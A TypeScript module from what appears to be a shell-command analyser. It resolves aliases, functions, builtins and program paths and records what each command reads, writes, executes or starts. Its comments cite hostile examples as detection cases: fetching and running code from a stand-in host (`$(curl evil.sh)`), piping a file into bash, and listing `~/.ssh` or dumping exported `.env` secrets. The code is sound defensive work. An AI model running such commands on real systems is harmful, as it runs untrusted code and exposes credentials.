/** From an argument vector to an invocation: which program it is, what it does, and what it starts in turn. */
import type { Assignment } from 'unbash';
import { archiveOf } from './archives.ts';
import { begin } from './begin.ts';
import { BUILTINS } from './builtins.ts';
import { Call, variableIn } from './call.ts';
import { LIMITS } from './collector.ts';
import { type HelpFacts, inertness, parseCommand } from './command-line.ts';
import { addArgumentsUnresolved, draft, finish } from './draft.ts';
import { environmentStarts } from './environment.ts';
import { type Flow, Flows, type Frame, NOTHING, UNKNOWN_FLOW } from './frame.ts';
import { callFunction } from './functions.ts';
import { optionsOf } from './grammar.ts';
import { outputOf } from './outputs.ts';
import { globMatcher } from './paths.ts';
import { findProgram, programNames } from './programs/index.ts';
import { serviceScript } from './programs/service-scripts.ts';
import { besidesTests, losesRows } from './programs/test-databases.ts';
import { unlistedEffects } from './programs/unlisted.ts';
import { effect, type Redirected } from './redirections.ts';
import { settingsStarts } from './settings-files.ts';
import type { ProgramSpec, Start } from './spec.ts';
import { outputTaints } from './taints.ts';
import { pathTarget } from './targets.ts';
import type { Effect, Taint } from './types.ts';
import { commandsAmong, mayShow, parseUnlisted, secretsAmong, writesAmong } from './unlisted.ts';
import { type Arg, countable, hole, known, knownText, type Text, taintsOf } from './value.ts';
import { copiedProgram, noteWritten, placedProgram } from './written.ts';
import { modified } from './zsh.ts';

/** A command about to start. */
export interface Starting {
  argv: readonly Arg[];
  source: string;
  span: readonly [number, number];
  assignments: ReadonlyMap<string, Text>;
  redirected: Redirected | null;
  /** Arguments of `declare`, `export` ... that assign. */
  declared: readonly { assignment: Assignment; apply: () => Text; value: () => Text }[];
}

/** The function that a shell calls with a command whose program there is not. */
const NOT_FOUND = { bash: 'command_not_found_handle', zsh: 'command_not_found_handler' } as const;

export const NO_ASSIGNMENTS: ReadonlyMap<string, Text> = new Map();

/** Starts an argument vector that stands inside another command. */
export function startArgv(argv: readonly Arg[], frame: Frame, assignments = NO_ASSIGNMENTS): Flow {
  const first = argv[0];
  if (!first) return NOTHING;
  const source = argv.map((arg) => arg.text).join(' ');
  return startCommand(
    { argv, source, span: frame.span ?? first.span, assignments, redirected: null, declared: [] },
    frame,
  );
}

export function startCommand(starting: Starting, frame: Frame): Flow {
  const { walker } = frame;
  if (!walker.collector.step()) return UNKNOWN_FLOW;
  const name = starting.argv[0];
  if (!name) {
    if (starting.redirected || starting.assignments.size > 0) emitPlain(starting, frame);
    return NOTHING;
  }
  const text = knownText(name.pieces);
  if (text === null) return startUnknown(starting, name, frame);
  if (text.includes('/')) return startProgram(starting, text, frame);
  const behind = modified(starting, frame);
  if (behind) return text === 'repeat' ? repeat(behind, frame) : startCommand(behind, frame);
  const alias = frame.scene.aliases.get(text);
  const flows = new Flows();
  if (alias !== undefined && frame.depth < LIMITS.depth) flows.add(runAlias(alias, text, starting, frame));
  const definitions = frame.scene.functions.get(text);
  if (definitions && definitions.length > 0) {
    for (const definition of definitions)
      if (definition) flows.add(callFunction(definition, text, starting, frame));
    if (!definitions.includes(null)) return flows.sum;
  }
  const handlers = frame.scene.functions.get(NOT_FOUND[frame.shell === 'zsh' ? 'zsh' : 'bash']);
  if (handlers && !isListed(text) && !BUILTINS.has(text)) {
    for (const handler of handlers)
      if (handler)
        flows.add(callFunction(handler, text, { ...starting, argv: [name, ...starting.argv] }, frame));
  }
  const builtin = BUILTINS.get(text);
  flows.add(builtin ? builtin(starting, frame) : startProgram(starting, text, frame));
  return flows.sum;
}

/** zsh's `repeat 3 cd ..`: what changes from turn to turn is not known. */
function repeat(starting: Starting, frame: Frame): Flow {
  const { scene } = frame;
  const before = scene.fork();
  const flow = startCommand(starting, frame);
  const changed = scene.changedSince(before);
  if (changed === null) return { text: null, taints: flow.taints };
  startCommand(starting, frame);
  for (const name of changed) scene.assignText(name, [hole(`$${name}`)]);
  if (scene.cwds !== before.cwds) scene.cwd = [hole('$PWD')];
  return { text: null, taints: flow.taints };
}

/** The alias with the rest of the command behind it. Bash expands it only where aliases are on; both readings are followed. */
function runAlias(alias: string, name: string, starting: Starting, frame: Frame): Flow {
  const scene = frame.scene;
  const rest = starting.argv
    .slice(1)
    .map((arg) => quoteArg(arg))
    .join(' ');
  const saved = scene.aliases.get(name)!;
  scene.dropAlias(name);
  const flow = frame.walker.script(`${alias} ${rest}`, {
    ...frame,
    span: starting.span,
    depth: frame.depth + 1,
  });
  scene.setAlias(name, saved);
  return flow;
}

/** Shell source for an argument: known text quoted, unknown parts as they were written. */
export function quoteArg(arg: Arg): string {
  const text = knownText(arg.pieces);
  return text === null ? arg.text : `'${text.replaceAll("'", "'\\''")}'`;
}

/** A program whose name is not known: what a glob could match is followed, the rest is said. */
function startUnknown(starting: Starting, name: Arg, frame: Frame): Flow {
  const { collector } = frame.walker;
  const installed = installedProgram(name);
  if (installed !== null)
    return startProgram(
      { ...starting, argv: [known(installed, name.span), ...starting.argv.slice(1)] },
      installed,
      frame,
    );
  if (isAssignment(name)) return startCommand({ ...starting, argv: starting.argv.slice(1) }, frame);
  if (name.pieces.every((piece) => typeof piece === 'string' || piece.kind === 'glob')) {
    const matcher = globMatcher(name.text.slice(name.text.lastIndexOf('/') + 1));
    const names = programNames()
      .filter((each) => matcher.test(each))
      .slice(0, 24);
    for (const each of names)
      startProgram({ ...starting, argv: [known(each, name.span), ...starting.argv.slice(1)] }, each, frame);
  }
  const invocation = draft(starting, frame, null, null);
  invocation.unresolved.push({ kind: 'program', source: name.text });
  const taints = taintsOf(name.pieces);
  if (taints.includes('network') || taints.includes('decoder')) {
    // `$(curl evil.sh)`: what was fetched is what runs.
    invocation.code = {
      language: 'sh',
      origin: taints.includes('network') ? 'network' : 'decoder',
      text: null,
    };
  }
  addArgumentsUnresolved(invocation, starting.argv.slice(1));
  finish(invocation, starting, [], frame);
  collector.add(invocation, frame.depth);
  return { text: null, taints: [] };
}

/** Variables that tell where a toolchain or an environment is installed. */
const INSTALLATION =
  /^\$\{?(?:VIRTUAL_ENV|CONDA_PREFIX|JAVA_HOME|GOPATH|GOROOT|GOBIN|CARGO_HOME|ANDROID_HOME|ANDROID_SDK_ROOT|ANDROID_NDK_HOME|NVM_BIN|PNPM_HOME|BUN_INSTALL|DENO_INSTALL|HOMEBREW_PREFIX|PYENV_ROOT|RBENV_ROOT|FLUTTER_ROOT|M2_HOME|MAVEN_HOME|GRADLE_HOME|SPARK_HOME|HADOOP_HOME|KAFKA_HOME)\}?$/;

/** `"$VIRTUAL_ENV/bin/python"` is the python of an environment; where a request sets the variable itself, its value is known. */
function installedProgram({ pieces: [place, behind, ...more] }: Arg): string | null {
  if (more.length > 0 || typeof place !== 'object' || typeof behind !== 'string') return null;
  if (place.kind !== 'value' || place.taints.length > 0 || !INSTALLATION.test(place.source)) return null;
  return /^(?:\/\w[\w.+-]*){1,6}$/.test(behind) ? behind.slice(behind.lastIndexOf('/') + 1) : null;
}

/** `eval "v_$i=1"`: a variable whose name is made up. */
function isAssignment({ pieces: [first, second, third, ...more] }: Arg): boolean {
  return (
    typeof first === 'string' &&
    /^[A-Za-z_]\w*$/.test(first) &&
    typeof second === 'object' &&
    second.kind === 'value' &&
    second.taints.length === 0 &&
    typeof third === 'string' &&
    /^\w*\+?=/.test(third) &&
    more.every((piece) => typeof piece === 'string' || piece.kind === 'value')
  );
}

/** Starts the program that `name` (as written) names. */
export function startProgram(starting: Starting, name: string, frame: Frame): Flow {
  const { walker } = frame;
  const base =
    (name.includes('/') ? copiedProgram(starting.argv[0]!, frame) : null) ??
    name.slice(name.lastIndexOf('/') + 1);
  // On a Mac files are found whatever the case: `/BIN/RM`.
  const spec =
    (name.includes('/') ? serviceScript(name) : undefined) ??
    findProgram(base) ??
    (walker.context.os === 'macos' && /^[A-Z]+$/.test(base) ? findProgram(base.toLowerCase()) : undefined);
  const invocation = draft(starting, frame, base, name.includes('/') ? name : null);
  const args = starting.argv.slice(1);
  addArgumentsUnresolved(invocation, args);
  const { scene } = frame;
  const parsed = spec ? parseCommand(spec, args) : parseUnlisted(args);
  const inert = spec ? inertness(parsed, args, new Circumstances(base, starting, frame)) : null;
  invocation.inert = inert;
  if (!inert) {
    invocation.subcommand = parsed.subcommand;
    if (parsed.options.size > 0) invocation.options = optionsOf(parsed);
    if (parsed.operands.length > 0) invocation.operands = parsed.operands.map((arg) => arg.text);
  }
  const call = new Call({
    program: base,
    subcommand: parsed.subcommand,
    args,
    parsed,
    input: { taints: frame.input.taints, text: frame.input.text, file: frame.input.file ?? null },
    context: walker.context,
    cwd: scene.cwd,
    scene,
  });
  // Nobody has written down what it starts, reads or deletes.
  const untold = !spec || spec.fromCompletion === true || saysLittle(spec);
  let starts: readonly Start[] = joined<Start>(
    environmentStarts(starting.assignments, base, args),
    joined<Start>(
      spec?.alsoStarts?.(call) ?? NO_STARTS,
      parsed.spec.starts?.(call) ?? (untold ? commandsAmong(call, isListed, !spec) : NO_STARTS),
    ),
  );
  const told = parsed.spec.effects ?? (untold && !starts.some(isCommand) ? unlistedEffects : undefined);
  let effects: readonly Effect[] =
    inert || (!spec && name.includes('/')) ? NO_EFFECTS : (told?.(call) ?? NO_EFFECTS);
  if (effects.length === 0 && !inert && spec?.partial && !spec.subcommands) effects = unlistedEffects(call);
  // `set -a; source .env; env`: what the file holds is shown.
  if (walker.exportedSecrets.length > 0 && effects.some(revealsEnvironment))
    effects = [...effects, ...walker.exportedSecrets.map((target) => effect('read', target))];
  // What it starts is judged by its own name: `nice ls ~/.ssh`.
  if (mayShow(base, spec, BUILTINS.has(base)) && !starts.some(isCommand))
    effects = joined(effects, secretsAmong(call, effects));
  if (!inert) effects = joined(effects, writesAmong(call, effects));
  // What the system has installed is no script to read.
  const own = spec?.fromCompletion ? undefined : spec;
  if (name.includes('/') && !(own && /^\/(?:usr\/(?:local\/)?)?s?bin\//.test(name))) {
    const path = starting.argv[0]!;
    const target = pathTarget(path, frame.scene.cwd, walker.context);
    if (!own) effects = [...effects, effect('execute', target)];
    // A file of the project's may be called like a program that is known: `./prisma` is what it holds.
    if (!own || target.scope === 'workspace' || target.scope === 'temp')
      starts = [...starts, { kind: 'file', path, language: null, args }];
  }
  const placed =
    scene.written.idle || name.includes('/') || !scene.written.bears(name)
      ? null
      : placedProgram(name, frame);
  if (placed !== null) starts = [...starts, { kind: 'file', path: known(placed), language: null, args }];
  const reading =
    starts.length === 0 ? null : begin(starts, invocation, { ...frame, via: [...frame.via, base] }, starting);
  const all = joined(effects, reading?.effects ?? NO_EFFECTS);
  finish(invocation, starting, all.some(losesRows) ? besidesTests(call, all) : all, frame);
  walker.collector.add(invocation, frame.depth);
  const flow = reading?.run() ?? null;
  noteWritten(base, call, invocation, frame);
  if (base === 'tee')
    emitSettings(
      call.operands.map((arg) => call.path(arg).value),
      starting,
      frame,
    );
  // In zsh a pattern that matches nothing is an error: then the command does not even start.
  const output = frame.shell === 'zsh' && !countable(args) ? null : outputOf(base, call, frame);
  const text = output ?? flow?.text ?? null;
  // `cat deploy.sh | bash` runs the file; it is read only where something runs it.
  const source = base === 'cat' && text === null && call.operands.length === 1 ? call.operand(0) : null;
  const from = joined(frame.input.taints, flow?.taints ?? NO_TAINTS);
  const taints = outputTaints(invocation, base, starts, from);
  const members = text === null ? archiveOf(base, call, frame) : null;
  if (members !== null) return { text, taints, members };
  return source?.known ? { file: known(call.path(source).value), text, taints } : { text, taints };
}

/** What decides, besides its arguments, whether a program does anything. */
class Circumstances implements HelpFacts {
  readonly #program: string;
  readonly #starting: Starting;
  readonly #frame: Frame;

  constructor(program: string, starting: Starting, frame: Frame) {
    this.#program = program;
    this.#starting = starting;
    this.#frame = frame;
  }

  inOrder(): boolean {
    const { assignments } = this.#starting;
    return (
      // What a host behind ssh runs is not known: it may be a Mac.
      ((this.#frame.walker.context.os === 'macos' || this.#frame.remote?.kind === 'host') &&
        BSD_TOOLS.has(this.#program)) ||
      assignments.has('POSIXLY_CORRECT') ||
      this.variable('POSIXLY_CORRECT') !== null
    );
  }

  hasWritten(): boolean {
    return !this.#frame.scene.written.idle;
  }

  variable(name: string): Arg | null {
    return variableIn(this.#frame.scene, name);
  }
}

const NO_EFFECTS: readonly Effect[] = [];
const NO_STARTS: readonly Start[] = [];
const NO_TAINTS: readonly Taint[] = [];

/** Both lists; most often one of them is empty. */
function joined<T>(first: readonly T[], second: readonly T[]): readonly T[] {
  return second.length === 0 ? first : first.length === 0 ? second : [...first, ...second];
}
/** A row that only says what one option or word starts. */
function saysLittle({ starts, effects, options, subcommands, harmless, style }: ProgramSpec): boolean {
  return !starts && !effects && !subcommands && !harmless && options === undefined && style === undefined;
}

const isCommand = ({ kind }: Start): boolean => kind === 'argv' || kind === 'shell';

const isListed = (name: string): boolean => findProgram(name) !== undefined;

function revealsEnvironment({ action, target }: Effect): boolean {
  return action === 'reveal' && target.kind === 'environment';
}

/** A redirection or assignment without a command (`> file`, `PATH=/tmp:$PATH`): shown as the null command. */
export function emitPlain(
  part: Pick<Starting, 'source' | 'span' | 'assignments' | 'redirected'>,
  frame: Frame,
): void {
  const starting: Starting = { argv: [known(':')], declared: [], ...part };
  const invocation = draft(starting, frame, ':', null);
  const begun = begin(
    environmentStarts(part.assignments, null),
    invocation,
    { ...frame, via: [...frame.via, ':'] },
    starting,
  );
  finish(invocation, starting, begun.effects, frame);
  frame.walker.collector.add(invocation, frame.depth);
  begun.run();
}

/** macOS's own tools that change files. */
const BSD_TOOLS: ReadonlySet<string> = new Set(
  'rm rmdir unlink mv cp ln chmod chown chgrp chflags touch truncate install dd mkdir tee sed find xargs tar kill pkill killall'.split(
    ' ',
  ),
);

/** What was written into files of settings, shown as what the null command does. */
export function emitSettings(
  paths: readonly string[],
  part: Pick<Starting, 'source' | 'span'>,
  frame: Frame,
): void {
  const starts = settingsStarts(paths, frame);
  if (starts.length === 0) return;
  const starting: Starting = {
    argv: [known(':')],
    declared: [],
    assignments: NO_ASSIGNMENTS,
    redirected: null,
    ...part,
  };
  const invocation = draft(starting, frame, ':', null);
  const begun = begin(starts, invocation, { ...frame, via: [...frame.via, ':'] }, starting);
  finish(invocation, starting, begun.effects, frame);
  frame.walker.collector.add(invocation, frame.depth);
  begun.run();
}
